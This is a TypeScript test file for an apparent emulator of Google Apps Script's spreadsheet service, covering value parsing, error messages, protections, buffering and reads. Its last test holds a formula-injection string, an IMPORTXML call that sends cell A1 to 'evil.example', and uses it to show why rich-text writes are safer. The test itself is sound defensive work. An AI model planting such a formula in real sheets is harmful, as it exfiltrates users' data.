import type { Emulator, EmulatorOptions } from '../../workbench/appsscript/contract'
import { createMemoryStore } from '../../workbench/appsscript/memory-store'
import type { SheetStore } from '../../workbench/appsscript/sheet-store'
import { ANY_SCRIPT, editor, outcomeOf, owner, startScript } from './people'

const SHEET = 'const book = SpreadsheetApp.getActiveSpreadsheet(); const sheet = book.getActiveSheet();'

let google: Emulator
let store: SheetStore

const start = async (options: Partial<EmulatorOptions> = {}): Promise<void> => {
  store = createMemoryStore()
  google = await startScript(ANY_SCRIPT, { store, ...options })
}
const run = async (source: string, user = owner): Promise<unknown> =>
  outcomeOf(await google.execute({ function: 'go', args: [`${SHEET}${source}`], user, via: 'menu' }))
const value = (row: number, column: number): unknown =>
  store.read(0, { row, column, rows: 1, columns: 1 })[0]![0]!.value

beforeEach(() => start())
afterEach(() => google.stop())

describe('writing', () => {
  test.each<readonly [string, string, unknown]>([
    ['a phone number loses its plus', "sheet.getRange('A1').setValue('+14155552671')", 14155552671],
    ['a range of numbers becomes a date', "sheet.getRange('A1').setValue('1-10')", 46032],
    ['appendRow parses in the same way', "sheet.appendRow(['01234'])", 1234],
    ['undefined clears', "sheet.getRange('A1').setValue('x'); sheet.getRange('A1').setValue(undefined)", null],
    ['an object becomes its text', "sheet.getRange('A1').setValue({ a: 1 })", '[object Object]'],
    ['a formula is a formula', "sheet.getRange('A1').setValue('=NOPE(1)')", '#NAME?'],
    ['plain text format keeps a date', "sheet.getRange('A1').setNumberFormat('@').setValue('1-10')", '1-10'],
    [
      'plain text format does not keep a plus',
      "sheet.getRange('A1').setNumberFormat('@').setValue('+14155552671')",
      14155552671,
    ],
    [
      'rich text is text',
      "sheet.getRange('A1').setRichTextValue(SpreadsheetApp.newRichTextValue().setText('+14155552671').build())",
      '+14155552671',
    ],
    [
      'rich text that looks like a formula is text',
      "sheet.getRange('A1').setRichTextValues([[SpreadsheetApp.newRichTextValue().setText('=1+1').build()]])",
      '=1+1',
    ],
  ])('%s', async (_, source, expected) => {
    await run(source)
    expect(value(0, 0)).toEqual(expected)
  })

  test('with the fact answered, plain text format keeps a plus', async () => {
    await google.stop()
    await start({ facts: { text_format_keeps_formulas: 'yes' } })
    await run("sheet.getRange('A1').setNumberFormat('@').setValue('+14155552671')")
    expect(value(0, 0)).toBe('+14155552671')
  })

  test.each<readonly [string, string, string]>([
    [
      'too few columns',
      'sheet.getRange(1, 1, 1, 3).setValues([[1, 2]])',
      'Exception: The number of columns in the data does not match the number of columns in the range. The data has 2 but the range has 3.',
    ],
    [
      'too many rows',
      'sheet.getRange(1, 1, 1, 1).setValues([[1], [2]])',
      'Exception: The number of rows in the data does not match the number of rows in the range. The data has 2 but the range has 1.',
    ],
    [
      'a text for a table',
      "sheet.getRange('A1').setValues('x')",
      "Exception: The parameters (String) don't match the method signature for SpreadsheetApp.Range.setValues.",
    ],
    [
      'a list for a table',
      "sheet.getRange('A1').setValues([1])",
      "Exception: The parameters (number[]) don't match the method signature for SpreadsheetApp.Range.setValues.",
    ],
    [
      'a row below the sheet',
      'sheet.getRange(1001, 1)',
      'Exception: The coordinates of the range are outside the dimensions of the sheet.',
    ],
    ['row 0', 'sheet.getRange(0, 1)', 'Exception: The coordinates or dimensions of the range are invalid.'],
    ['no range', "sheet.getRange('what?')", 'Exception: Range not found'],
    [
      'a long text',
      "sheet.getRange('A1').setValue('x'.repeat(50001))",
      'Exception: Your input contains more than the maximum of 50000 characters in a single cell.',
    ],
    [
      'an empty rich text',
      "SpreadsheetApp.newRichTextValue().setText('').build()",
      'Exception: Argument cannot be null: text',
    ],
    [
      'too many cells',
      'sheet.insertRowsAfter(1000, 400000)',
      'Exception: This action would increase the number of cells in the workbook above the limit of 10000000 cells.',
    ],
    [
      'a taken name',
      "book.insertSheet('Sheet1')",
      'Exception: A sheet with the name "Sheet1" already exists. Please enter another name.',
    ],
    ['hiding the only sheet', 'sheet.hideSheet()', "Exception: You can't hide all the sheets in a document."],
    ['a method that is not emulated', 'sheet.getCharts()', 'Error: Sheet.getCharts is not emulated'],
  ])('%s is refused in Google’s words', async (_, source, expected) => {
    expect(await run(source)).toBe(expected)
  })

  test('a protected cell refuses the whole write of an editor, not of the owner', async () => {
    store.protect(0, { area: { row: 0, column: 1, rows: 1, columns: 1 }, editors: [] })
    const source = "sheet.getRange('A1:B1').setValues([['a', 'b']])"
    expect(await run(source, editor)).toMatch(/^Exception: You are trying to edit a protected cell or object\./)
    expect(value(0, 0)).toBeNull()
    expect(
      await run(
        `return sheet.getProtections(SpreadsheetApp.ProtectionType.RANGE).map(p => [p.canEdit(), p.getRange().getA1Notation()])`,
        editor,
      ),
    ).toEqual([[false, 'B1']])
    await run(source)
    expect(value(0, 1)).toBe('b')
  })

  test('one rejected value refuses the whole write', async () => {
    store.validate(0, {
      area: { row: 1, column: 1, rows: 1, columns: 1 },
      accepts: { list: ['yes'] },
      onInvalid: 'reject',
    })
    expect(await run("sheet.getRange('A1:B2').setValues([[1, 2], [3, 'maybe']])")).toBe(
      'Exception: The data you entered in cell B2 violates the data validation rules set on this cell.',
    )
    expect(value(0, 0)).toBeNull()
    expect(await run("sheet.getRange('A1:B2').setValues([[1, 2], [3, 'yes']])")).toBeNull()
    expect(value(1, 1)).toBe('yes')
  })

  test('errors speak the language of the user', async () => {
    const german = { ...editor, locale: 'de-DE' }
    expect(await run('sheet.getRange(1001, 1)', german)).toBe(
      'Exception: Die Koordinaten des Bereichs liegen außerhalb der Dimensionen des Tabellenblatts.',
    )
  })
})

describe('buffering', () => {
  const writeThen = (rest: string): string => `sheet.getRange('A1').setValue('mine'); ${rest}`

  test.each<readonly [string, string, unknown]>([
    ['a kill loses what was not flushed', writeThen('Utilities.sleep(400000)'), null],
    ['flush keeps it', writeThen('SpreadsheetApp.flush(); Utilities.sleep(400000)'), 'mine'],
    ['a read of the cell keeps it', writeThen("sheet.getRange('A1').getValue(); Utilities.sleep(400000)"), 'mine'],
    ['a read elsewhere does not', writeThen("sheet.getRange('C3').getValue(); Utilities.sleep(400000)"), null],
    ['getLastRow depends on it', writeThen('sheet.getLastRow(); Utilities.sleep(400000)'), 'mine'],
    ['the end keeps it', writeThen('return 1'), 'mine'],
    ['an error keeps it', writeThen('throw new Error("x")'), 'mine'],
  ])('%s', async (_, source, expected) => {
    await run(source)
    expect(value(0, 0)).toBe(expected)
  })

  test('another user’s edit between the call and the flush is overwritten at the same coordinates', async () => {
    google.script([{ kind: 'between', method: 'SpreadsheetApp.flush', nth: 1, act: (one) => one.insertRows(0, 0, 1) }])
    await run("sheet.getRange('A1').setValue('mine'); SpreadsheetApp.flush()")
    expect(value(0, 0)).toBe('mine')
  })

  test('a range stays where it was while rows are inserted above', async () => {
    await run("sheet.getRange('A1:A2').setValues([['a'], ['b']])")
    google.script([{ kind: 'between', method: 'Range.setValue', nth: 1, act: (one) => one.insertRows(0, 0, 1) }])
    await run("const second = sheet.getRange('A2'); second.setValue('for b')")
    expect([value(0, 0), value(1, 0), value(2, 0)]).toEqual([null, 'for b', 'b'])
  })

  test('a range of a deleted sheet is not found', async () => {
    const source =
      "const other = book.insertSheet('Other'); const r = other.getRange('A1'); book.deleteSheet(other); r.getValue()"
    expect(await run(source)).toBe('Exception: Sheet not found')
  })
})

describe('reading', () => {
  test('values have their kinds, made in the script’s own realm', async () => {
    store.write(0, { row: 0, column: 0, rows: 1, columns: 5 }, [
      [{ value: 'x' }, { value: 1.5 }, { value: true }, { value: 46106, format: 'yyyy-mm-dd' }, { value: null }],
    ])
    expect(
      await run(
        "const [row] = sheet.getRange('A1:E1').getValues(); return [row[0], row[1], row[2], row[3] instanceof Date, row[3].toISOString(), row[4], row instanceof Array, sheet.getRange('D1').getDisplayValue()]",
      ),
    ).toEqual(['x', 1.5, true, true, '2026-03-25T00:00:00.000Z', '', true, '2026-03-25'])
  })

  test('the active range is the last of several', async () => {
    google.select(owner, 0, ['A2:B3', 'D5'])
    expect(
      await run(
        'return [book.getActiveRange().getA1Notation(), book.getActiveRangeList().getRanges().map(r => r.getA1Notation())]',
      ),
    ).toEqual(['D5', ['A2:B3', 'D5']])
  })

  test('a list of ranges is emptied, formatted and rid of its notes in one call each', async () => {
    store.write(0, { row: 0, column: 0, rows: 1, columns: 3 }, [
      [
        { value: 'a', note: 'n' },
        { value: 'b', note: 'n' },
        { value: 'c', note: 'n' },
      ],
    ])
    expect(
      await run(`const list = sheet.getRangeList(['A1', 'C1'])
        list.clearContent().setNumberFormat('0.0').clearNote()
        const row = sheet.getRange('A1:C1')
        return [row.getValues(), row.getNumberFormats(), row.getNotes()]`),
    ).toEqual([[['', 'b', '']], [['0.0', 'General', '0.0']], [['', 'n', '']]])
  })

  test('notes, formats, formulas, merges and validations can be read', async () => {
    store.write(0, { row: 0, column: 0, rows: 1, columns: 2 }, [[{ note: 'n', format: '@' }, { formula: '=X(1)' }]])
    store.merge(0, { row: 2, column: 0, rows: 1, columns: 2 })
    store.validate(0, {
      area: { row: 0, column: 0, rows: 1, columns: 1 },
      accepts: { list: ['a'] },
      onInvalid: 'reject',
    })
    expect(
      await run(`const r = sheet.getRange('A1:B1'); const [[rule, none]] = r.getDataValidations();
        return [r.getNotes(), r.getNumberFormats(), r.getFormulas(), r.isPartOfMerge(), sheet.getRange('B3').isPartOfMerge(),
          sheet.getRange('A3:Z9').getMergedRanges().map(m => m.getA1Notation()), rule.getAllowInvalid(),
          rule.getCriteriaType() === SpreadsheetApp.DataValidationCriteria.VALUE_IN_LIST, rule.getCriteriaValues()[0], none]`),
    ).toEqual([[['n', '']], [['@', 'General']], [['', '=X(1)']], false, true, ['A3:B3'], false, true, ['a'], null])
  })

  test('a filter tells its hidden values and rows', async () => {
    store.write(0, { row: 0, column: 0, rows: 3, columns: 1 }, [[{ value: 'h' }], [{ value: 'a' }], [{ value: 'b' }]])
    store.setFilter(0, { area: { row: 0, column: 0, rows: 3, columns: 1 }, hiddenTexts: { 0: ['a'] } })
    expect(
      await run(
        'const f = sheet.getFilter(); return [f.getRange().getA1Notation(), f.getColumnFilterCriteria(1).getHiddenValues(), f.getColumnFilterCriteria(1).getCriteriaType(), [1, 2, 3].map(r => sheet.isRowHiddenByFilter(r))]',
      ),
    ).toEqual(['A1:A3', ['a'], null, [false, true, false]])
  })

  test('rows, columns and tabs can be changed', async () => {
    expect(
      await run(`sheet.getRange('A1:B2').setValues([['a', 'b'], ['c', 'd']]); sheet.insertRowsBefore(1, 2); sheet.deleteColumns(1, 1);
        const other = book.insertSheet('Store', 0); other.hideSheet(); other.setFrozenRows(1); other.setColumnWidth(1, 50);
        return [sheet.getDataRange().getValues(), sheet.getMaxRows(), book.getSheets().map(s => s.getName()), other.isSheetHidden(),
          book.getSheetById(other.getSheetId()).getName(), book.getSheetByName('none'), other.getFrozenRows(), other.getColumnWidth(1)]`),
    ).toEqual([[[''], [''], ['b'], ['d']], 1002, ['Store', 'Sheet1'], true, 'Store', null, 1, 50])
  })
})

test('a script that is not careful turns a vendor’s text into a formula; one that writes rich text does not', async () => {
  const evil = '=IMPORTXML("https://evil.example?"&A1,"//a")'
  await run(`sheet.getRange('A2').setValue(${JSON.stringify(evil)})`)
  expect(store.read(0, { row: 1, column: 0, rows: 1, columns: 1 })[0]![0]!.formula).toBe(evil)
  await run(
    `sheet.getRange('A2').setRichTextValue(SpreadsheetApp.newRichTextValue().setText(${JSON.stringify(evil)}).build())`,
  )
  expect(store.read(0, { row: 1, column: 0, rows: 1, columns: 1 })[0]![0]).toEqual({ value: evil })
})
